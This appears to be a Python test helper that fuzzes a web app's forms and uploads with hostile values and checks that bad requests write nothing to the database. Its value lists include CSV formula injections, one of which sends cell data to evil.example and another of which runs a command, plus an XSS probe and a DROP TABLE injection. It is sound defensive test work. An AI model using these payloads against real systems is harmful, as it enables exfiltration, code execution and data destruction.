"""Hostile values, the fuzzed site (one of everything, all ids 1) and a watch on writes."""

import io
import json

from hypothesis import strategies as st
from sqlalchemy import event

from app.b2b.queries import make_participant_token
from app.events.models import QuestionKind
from app.events.queries import make_manage_token
from app.extensions import db
from tests.factories import (
    make_organisation,
    make_person,
    make_question,
    make_registration,
    make_run,
    make_schedule_session,
    participants_of,
)
from tests.security.forms import Field, Form

#: Whole numbers beyond every integer column, negative ones and what int() refuses.
HOSTILE_INTS = ("2147483648", "99999999999999999999", "9" * 400, "-2147483649", "-1", "0",
                "1e309", "NaN", "0x10", " 7 ")
HOSTILE_DATES = ("0001-01-01", "0001-01-01T00:00", "9999-12-31T23:59", "1900-01-01T00:00",
                 "2026-03-29T02:30", "31/12/2026", "24:61", "2027-02-30")
HOSTILE_TEXTS = ("\x00", "a\x00b", "x" * 10_000, "\x01\x02\x1b[31m\x7f", "\u202e\u200b\ufeff",
                 '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
                 "<script>alert(1)</script>", "\U0001f600" * 300, "'; DROP TABLE events;--",
                 " ", "")
HOSTILE = HOSTILE_INTS + HOSTILE_DATES + HOSTILE_TEXTS

CSV_HEADER = "organisation,email,first_name,last_name,phone,job_title,commune,sectors,consent\n"


def _csv_rows(values: list[str]) -> bytes:
    row = ",".join('"' + v.replace('"', '""') + '"' for v in values)
    return (CSV_HEADER + row + "\n").encode("utf-8", "surrogatepass")


def _nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


#: Uploaded files: CSV rows of hostile cells, JSON nested, huge, with NULs, or not JSON at all.
FILES = st.one_of(
    st.lists(st.sampled_from(HOSTILE_TEXTS + HOSTILE_INTS), min_size=9, max_size=9).map(_csv_rows),
    st.sampled_from([
        _nested(100_000), _nested(50), b'{"format": "b2b-problem/1"' + b"," * 10_000,
        json.dumps({"format": "b2b-problem/1", "options": {"min_meetings": 10**20}}).encode(),
        json.dumps({"format": "b2b-problem/1\x00", "slots": [{"id": "\x00" * 50}]}).encode(),
        b'{"a": NaN, "b": 1e999}', b"\xff\xfe\x00", b"", CSV_HEADER.encode() + b"a" * 200_000,
    ]),
)


def sane_value(field: Field) -> str:
    """Return a value this control accepts when it is left as a person would fill it."""
    if field.value or field.kind in ("hidden", "submit", "select"):
        return field.value
    return {"email": "fuzz@example.org", "date": "2027-05-20", "time": "10:00",
            "datetime-local": "2027-05-20T10:00", "number": "3", "password": "correct-horse",
            }.get(field.kind, "Fuzz")


def hostile_value(field: Field) -> st.SearchStrategy:
    """Return the values tried on one control: hostile ones, any text, or a valid option."""
    choices = [st.sampled_from(HOSTILE), st.text(max_size=40)]
    if field.options:
        choices.append(st.sampled_from(field.options))
    return st.one_of(*choices)


#: The worst value of each kind of control, tried once per control with the others sane.
WORST = {"date": ("0001-01-01", "9999-12-31"), "datetime-local": ("0001-01-01T00:00",),
         "time": ("24:61",), "number": ("99999999999999999999", "-2147483649"),
         "file": ()}
WORST_TEXT = ("x" * 10_000 + "\x00", "99999999999999999999")


def sane_submission(form: Form) -> dict[str, list]:
    """Return what a person filling the form plainly would send.

    Times follow each other from midnight (start 00:00, end 00:20...): the first minutes of
    a day are where a date's conversion to UTC crosses into the day (or year) before.
    """
    data: dict[str, list] = {}
    times = 0
    for name in form.names:
        controls = form.controls(name)
        first = controls[0]
        if first.kind == "file":
            continue
        if first.kind in ("checkbox", "radio"):
            values = [c.value for c in controls if c.checked or first.kind == "radio"][:1]
            data[name] = values or ([first.value] if len(controls) == 1 else [])
        elif first.kind == "time" and not first.value:
            data[name] = [f"{times // 60:02d}:{times % 60:02d}"]
            times += 20
        else:
            data[name] = [sane_value(first)]
    return data


def worst_submissions(form: Form):
    """Yield the form filled plainly but for one control set to the worst value of its kind."""
    for name in form.names:
        kind = form.controls(name)[0].kind
        if kind in ("submit",) or name == "csrf_token":
            continue
        for value in WORST.get(kind, WORST_TEXT):
            yield {**sane_submission(form), name: [value]}


@st.composite
def submissions(draw, form: Form):
    """Draw what a hostile client posts to a form: one field hostile, or every field."""
    names = [n for n in form.names if form.controls(n)[0].kind != "file"]
    target = draw(st.sampled_from([*names, None])) if names else None
    data = sane_submission(form)
    for name in names:
        controls = form.controls(name)
        first = controls[0]
        if target is not None and name != target:
            continue
        if draw(st.booleans()) and first.kind in ("checkbox", "select", "radio"):
            options = first.options or [c.value for c in controls]
            data[name] = draw(st.lists(st.sampled_from(options), max_size=3)) if options else []
        else:
            data[name] = draw(st.lists(hostile_value(first), min_size=1, max_size=2))
    for name in (n for n in form.names if form.controls(n)[0].kind == "file"):
        data[name] = [(io.BytesIO(draw(FILES)), "upload.csv")]
    return data


def build_site() -> dict[str, str]:
    """Add one of everything (ids all 1: event, session, run...) and return the link tokens."""
    session = make_schedule_session(people=4)
    event = session.event
    make_question(event, QuestionKind.TEXT)
    make_question(event, QuestionKind.CHOICE, choices="Veggie\nFish", label="Menu")
    make_question(event, QuestionKind.YES_NO, label="Parking")
    ann = participants_of(session)[0]
    registration = make_registration(event, ann.person)
    make_run(session)
    org = make_organisation("Bois Vif SRL")
    make_person("zoe@boisvif.example", organisation=org)
    db.session.commit()
    return {"manage": make_manage_token(registration), "portal": make_participant_token(ann),
            "code": participants_of(session)[1].code}


class WriteWatch:
    """Count the transactions that commit an INSERT, UPDATE or DELETE on the app's engine.

    Cheaper than comparing every table before and after each request, and exact: data can
    only change through a committed write.
    """

    WRITES = ("INSERT", "UPDATE", "DELETE")

    def __init__(self, engine):
        self.engine = engine
        self.pending: set[int] = set()
        self.commits = 0

    def _execute(self, conn, cursor, statement, *args):
        if statement.lstrip().upper().startswith(self.WRITES):
            self.pending.add(id(conn.connection))

    def _commit(self, conn):
        if id(conn.connection) in self.pending:
            self.pending.discard(id(conn.connection))
            self.commits += 1

    def _rollback(self, conn):
        self.pending.discard(id(conn.connection))

    def __enter__(self):
        event.listen(self.engine, "after_cursor_execute", self._execute)
        event.listen(self.engine, "commit", self._commit)
        event.listen(self.engine, "rollback", self._rollback)
        return self

    def __exit__(self, *exc):
        event.remove(self.engine, "after_cursor_execute", self._execute)
        event.remove(self.engine, "commit", self._commit)
        event.remove(self.engine, "rollback", self._rollback)
